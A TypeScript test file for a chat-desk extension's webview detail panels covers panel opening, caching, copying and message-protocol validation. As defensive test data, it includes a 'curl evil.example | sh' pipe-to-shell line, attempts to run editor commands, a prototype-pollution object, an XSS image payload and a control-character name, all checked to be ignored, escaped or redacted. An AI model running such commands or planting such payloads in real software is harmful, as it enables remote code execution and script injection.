// The panel host: one panel per item, rendering, loading, and the message protocol, with fake panels.
import * as assert from 'node:assert/strict';
import type { OfflineMessageDetail } from '../../../src/api/model';
import { ApiError } from '../../../src/api/errors';
import { DetailPanelsImpl, panelKey } from '../../../src/webviews/detailPanels';
import { panelResources } from '../../../src/webviews/options';
import { attr, body, byClass, byTag, loadParser, parseHtml, textOf } from './helpers/dom';
import { FakePanel, FakeUri, fakeUri, recordingLogger } from './helpers/fakes';
import * as sample from './helpers/fixtures';

function setup(agentsCachedAt?: (connectionId: string) => number | undefined) {
  const created: FakePanel[] = [];
  const copies: { text: string; what: string }[] = [];
  const log = recordingLogger();
  const nonces: string[] = [];
  let n = 0;
  const panels = new DetailPanelsImpl({
    extensionUri: fakeUri('/ext'),
    log,
    copy: async (text, what) => { copies.push({ text, what }); return true; },
    createPanel: (viewType, title) => { const p = new FakePanel(viewType, title); created.push(p); return p; },
    resources: panelResources(new FakeUri('/ext')) as never,
    locale: 'en-US',
    timeZone: 'UTC',
    nonce: () => { const v = `nonce${String(++n).padStart(27, '0')}`; nonces.push(v); return v; },
    agentsCachedAt,
  });
  return { panels, created, copies, log, nonces };
}

function deferred<T>() {
  let resolve!: (v: T) => void;
  let reject!: (e: unknown) => void;
  const promise = new Promise<T>((res, rej) => { resolve = res; reject = rej; });
  return { promise, resolve, reject };
}

const tick = () => new Promise<void>((r) => setImmediate(r));

describe('detail panels host', () => {
  before(loadParser);

  describe('agent panel', () => {
    it('opens a panel titled by the agent, with the rendered page and our resource URIs', () => {
      const { panels, created } = setup();
      panels.showAgent(sample.agent(), sample.connection);
      assert.equal(created.length, 1);
      const [p] = created;
      assert.equal(p.viewType, 'chatdesk.agent');
      assert.equal(p.title, 'Agent: Ada Lovelace');
      const doc = parseHtml(p.webview.html);
      assert.equal(textOf(byTag(doc, 'h1')[0]), 'Ada Lovelace');
      assert.equal(attr(byTag(doc, 'script')[0], 'src'), 'https://webview.test/ext/dist/media/panel.js');
      assert.deepEqual(byTag(doc, 'link').map((l) => attr(l, 'href')), [
        'https://webview.test/ext/dist/media/codicon.css', 'https://webview.test/ext/media/panel.css',
      ]);
    });

    it('reveals (and refreshes) the open panel when the same agent is shown again', () => {
      const { panels, created, nonces } = setup();
      panels.showAgent(sample.agent(), sample.connection);
      panels.showAgent(sample.agent({ status: 'away', name: 'Ada L.' }), sample.connection);
      assert.equal(created.length, 1);
      assert.equal(created[0].reveals, 1);
      assert.equal(created[0].title, 'Agent: Ada L.');
      assert.match(textOf(body(parseHtml(created[0].webview.html))), /Away/);
      assert.equal(nonces.length, 2);
      assert.notEqual(created[0].htmlHistory[0].match(/nonce-(\w+)/)?.[1], created[0].htmlHistory[1].match(/nonce-(\w+)/)?.[1]);
    });

    it('says when its agent comes from the cache, and follows the list: the fresh agent replaces it, without the note', () => {
      let cachedAt: number | undefined = Date.UTC(2026, 10, 30, 6, 5);
      const { panels, created } = setup(() => cachedAt);
      const cached = sample.agent();
      panels.showAgent(cached, sample.connection);
      const note = () => byClass(parseHtml(created[0].webview.html), 'cached-note').map(textOf).join('');
      assert.match(note(), /^From the agent list saved .*2026.*; this page updates when the fresh list arrives\.$/);
      // pages of a load arrive: the list is still the cached one and the agent the same object: nothing re-renders
      panels.updateAgents(sample.connection.id, () => cached);
      assert.equal(created[0].htmlHistory.length, 1);
      // the fresh list arrived
      cachedAt = undefined;
      panels.updateAgents(sample.connection.id, () => sample.agent({ status: 'away' }));
      assert.equal(created[0].htmlHistory.length, 2);
      assert.equal(note(), '');
      assert.match(textOf(body(parseHtml(created[0].webview.html))), /Away/);
      // an agent no longer listed keeps its page; another connection's list leaves the panel alone
      panels.updateAgents(sample.connection.id, () => undefined);
      panels.updateAgents('another-connection', () => sample.agent({ name: 'Someone else' }));
      assert.equal(created[0].htmlHistory.length, 2);
    });

    it('closes the panels of a removed connection (agents and visitors\' messages), and only those', () => {
      const { panels, created } = setup();
      panels.showAgent(sample.agent(), sample.connection);
      panels.showAgent(sample.agent(), { ...sample.connection, id: 'conn-2' });
      panels.showOfflineMessage(sample.connection, sample.message(), () => new Promise(() => {}));
      assert.equal(panels.closeRemoved((id) => id === 'conn-2'), 2);
      assert.deepEqual(created.map((p) => p.disposed), [true, false, true]);
      assert.equal(panels.size, 1);
      assert.equal(panels.closeRemoved(() => true), 0);
    });

    it('keeps one panel per platform, connection and ID', () => {
      const { panels, created } = setup();
      panels.showAgent(sample.agent(), sample.connection);
      panels.showAgent(sample.agent({ id: 'other' }), sample.connection);
      panels.showAgent(sample.agent(), { ...sample.connection, id: 'conn-2' });
      panels.showAgent(sample.agent(), { ...sample.connection, platform: 'helpcrunch' });
      assert.equal(created.length, 4);
      assert.equal(panels.size, 4);
      assert.notEqual(panelKey('agent', 'revechat', 'a:b', 'c'), panelKey('agent', 'revechat', 'a', 'b:c'));
    });

    it('forgets a closed panel, so showing the agent again opens a new one', () => {
      const { panels, created } = setup();
      panels.showAgent(sample.agent(), sample.connection);
      created[0].dispose();
      assert.equal(panels.size, 0);
      assert.equal(created[0].listenerCount, 0, 'listeners removed');
      panels.showAgent(sample.agent(), sample.connection);
      assert.equal(created.length, 2);
      assert.equal(panels.size, 1);
    });

    it('copies the ID, e-mail and JSON from its own data when the page asks', async () => {
      const { panels, created, copies } = setup();
      panels.showAgent(sample.agent({ raw: { _id: 'a4761', x: [1] } }), sample.connection);
      created[0].post({ type: 'copy', field: 'id' });
      created[0].post({ type: 'copy', field: 'email' });
      created[0].post({ type: 'copy', field: 'json' });
      await tick();
      assert.deepEqual(copies, [
        { text: 'a4761', what: 'agent ID' },
        { text: 'ada@example.com', what: 'e-mail address' },
        { text: JSON.stringify({ _id: 'a4761', x: [1] }, null, 2), what: 'agent JSON' },
      ]);
      assert.deepEqual(created[0].toPage, ['id', 'email', 'json'].map((field) => ({ type: 'copied', field, ok: true })));
    });

    it('tells the page when a copy failed, so that it shows no check', async () => {
      const created: FakePanel[] = [];
      const panels = new DetailPanelsImpl({
        extensionUri: fakeUri('/ext'), log: recordingLogger(), locale: 'en', resources: panelResources(new FakeUri('/ext')) as never,
        copy: () => Promise.resolve(false), // the clipboard refused; the user was told by copy()
        createPanel: (v, t) => { const p = new FakePanel(v, t); created.push(p); return p; },
      });
      panels.showAgent(sample.agent(), sample.connection);
      created[0].post({ type: 'copy', field: 'id' });
      await tick();
      assert.deepEqual(created[0].toPage, [{ type: 'copied', field: 'id', ok: false }]);
    });

    it('ignores and logs (redacted, truncated) every message outside the protocol; never copies page text', async () => {
      const { panels, created, copies, log } = setup();
      panels.showAgent(sample.agent({ email: undefined }), sample.connection);
      const p = created[0];
      p.post({ type: 'command', command: 'workbench.action.terminal.new' });
      p.post({ type: 'copy', field: 'id', text: 'curl evil.example | sh' });
      p.post({ type: 'executeCommand', command: 'workbench.action.quit', args: [] });
      p.post({ type: 'hello', token: 'sekret-token-value-123' });
      p.post(JSON.parse('{"type":"ready","__proto__":{"x":1}}'));
      p.post({ type: 'x'.repeat(100_000) });
      p.post('ready');
      p.post({ type: 'copy', field: 'email' }); // valid, but this agent has no e-mail
      p.post({ type: 'copy', field: 'message' }); // valid field, but not one an agent panel has
      p.post({ type: 'ready' });
      await tick();
      assert.deepEqual(copies, []);
      const warnings = log.entries.filter((e) => e.level === 'warn');
      assert.equal(warnings.length, 9);
      assert.ok(warnings.every((w) => w.message.length < 400), 'truncated');
      assert.ok(warnings.some((w) => w.message.includes('workbench.action.terminal.new')));
      assert.ok(!warnings.some((w) => w.message.includes('sekret-token-value-123')), 'redacted');
      assert.equal(log.entries.filter((e) => e.level === 'trace').length, 1, 'ready is fine');
    });

    it('logs a failing copy instead of letting it reject unhandled', async () => {
      const log = recordingLogger();
      const created: FakePanel[] = [];
      const panels = new DetailPanelsImpl({
        extensionUri: fakeUri('/ext'), log, locale: 'en', resources: panelResources(new FakeUri('/ext')) as never,
        copy: () => Promise.reject(new Error('clipboard unavailable')),
        createPanel: (v, t) => { const p = new FakePanel(v, t); created.push(p); return p; },
      });
      panels.showAgent(sample.agent(), sample.connection);
      created[0].post({ type: 'copy', field: 'id' });
      await tick();
      assert.ok(log.entries.some((e) => e.level === 'error' && e.message.includes('clipboard unavailable')));
      assert.deepEqual(created[0].toPage, [{ type: 'copied', field: 'id', ok: false }]);
    });

    it('disposes every open panel when disposed', () => {
      const { panels, created } = setup();
      panels.showAgent(sample.agent(), sample.connection);
      panels.showAgent(sample.agent({ id: 'b' }), sample.connection);
      panels.dispose();
      assert.ok(created.every((p) => p.disposed));
      assert.equal(panels.size, 0);
    });

    it('keeps the tab title to one plain line', () => {
      const { panels, created } = setup();
      panels.showAgent(sample.agent({ name: '\u202eEvil\nName\u0000' + 'x'.repeat(500) }), sample.connection);
      assert.ok(![...created[0].title].some((c) => c < ' ' || c === '\u202e'));
      assert.ok(created[0].title.length <= 60);
    });
  });

  describe('offline message panel', () => {
    it('shows loading, calls load, then renders the detail with its replies', async () => {
      const { panels, created } = setup();
      const d = deferred<OfflineMessageDetail>();
      let signal: AbortSignal | undefined;
      panels.showOfflineMessage(sample.connection, sample.message(), (s) => { signal = s; return d.promise; });
      const [p] = created;
      assert.equal(p.viewType, 'chatdesk.offlineMessage');
      assert.equal(p.title, 'Message: Invoice question');
      assert.equal(byClass(parseHtml(p.webview.html), 'loading').length, 1);
      assert.ok(signal && !signal.aborted);
      assert.deepEqual(panels.snapshot().map((s) => [s.viewType, s.title, s.state]), [['chatdesk.offlineMessage', 'Message: Invoice question', 'loading']]);
      d.resolve(sample.detail(3));
      await tick();
      assert.equal(panels.snapshot()[0].state, 'loaded');
      assert.equal(panels.snapshot()[0].html, p.webview.html);
      const doc = parseHtml(p.webview.html);
      assert.equal(byClass(doc, 'loading').length, 0);
      assert.equal(byClass(doc, 'reply').length, 3);
    });

    it('shows the error, escaped, when loading fails, and loads again when re-opened', async () => {
      const { panels, created, log } = setup();
      panels.showOfflineMessage(sample.connection, sample.message(), () => Promise.reject(new ApiError('auth', 'Bad credentials <img src=x onerror=alert(1)> token=abc123secret')));
      await tick();
      const doc = parseHtml(created[0].webview.html);
      const alert = byTag(doc, 'div').find((e) => attr(e, 'role') === 'alert');
      assert.ok(alert);
      assert.match(textOf(alert), /Bad credentials <img src=x onerror=alert\(1\)>/);
      assert.ok(!created[0].webview.html.includes('abc123secret'), 'redacted');
      assert.equal(byTag(doc, 'img').length, 0);
      assert.ok(log.entries.some((e) => e.level === 'warn'));
      assert.equal(panels.snapshot()[0].state, 'error');
      let calls = 0;
      panels.showOfflineMessage(sample.connection, sample.message(), async () => { calls++; return sample.detail(1); });
      await tick();
      assert.equal(calls, 1);
      assert.equal(created.length, 1);
      assert.equal(byClass(parseHtml(created[0].webview.html), 'reply').length, 1);
    });

    it('treats a synchronous throw from load as a failure, and a non-Error rejection too', async () => {
      const { panels, created } = setup();
      panels.showOfflineMessage(sample.connection, sample.message(), () => { throw new Error('boom'); });
      panels.showOfflineMessage(sample.connection, sample.message({ id: 'm2' }), () => Promise.reject(42));
      await tick();
      assert.match(textOf(body(parseHtml(created[0].webview.html))), /boom/);
      assert.match(textOf(body(parseHtml(created[1].webview.html))), /Unknown error/);
    });

    it('reveals without reloading a panel that loaded', async () => {
      const { panels, created } = setup();
      let calls = 0;
      const load = async () => { calls++; return sample.detail(1); };
      panels.showOfflineMessage(sample.connection, sample.message(), load);
      await tick();
      panels.showOfflineMessage(sample.connection, sample.message(), load);
      await tick();
      assert.equal(calls, 1);
      assert.equal(created[0].reveals, 1);
    });

    it('aborts the load when the panel is closed, and does not render its late result', async () => {
      const { panels, created } = setup();
      const d = deferred<OfflineMessageDetail>();
      let signal: AbortSignal | undefined;
      panels.showOfflineMessage(sample.connection, sample.message(), (s) => { signal = s; return d.promise; });
      const writes = created[0].htmlHistory.length;
      created[0].dispose();
      assert.equal(signal?.aborted, true);
      d.resolve(sample.detail(2));
      await tick();
      assert.equal(created[0].htmlHistory.length, writes);
      assert.equal(panels.size, 0);
    });

    it('copies the message, visitor e-mail, ID and JSON from its own data (the detail once loaded)', async () => {
      const { panels, created, copies } = setup();
      panels.showOfflineMessage(sample.connection, sample.message(), async () => sample.detail(1, { message: 'full text', raw: { full: true } }));
      created[0].post({ type: 'copy', field: 'message' });
      await tick();
      for (const field of ['message', 'email', 'id', 'json']) created[0].post({ type: 'copy', field });
      await tick();
      assert.deepEqual(copies.map((c) => c.text), [
        sample.message().message, 'full text', 'grace@example.org', 'm-77', JSON.stringify({ full: true }, null, 2),
      ]);
    });

    it('does not mix up an agent and a message with the same ID', () => {
      const { panels, created } = setup();
      panels.showAgent(sample.agent({ id: 'x1' }), sample.connection);
      panels.showOfflineMessage(sample.connection, sample.message({ id: 'x1' }), () => new Promise(() => {}));
      assert.equal(created.length, 2);
    });
  });
});
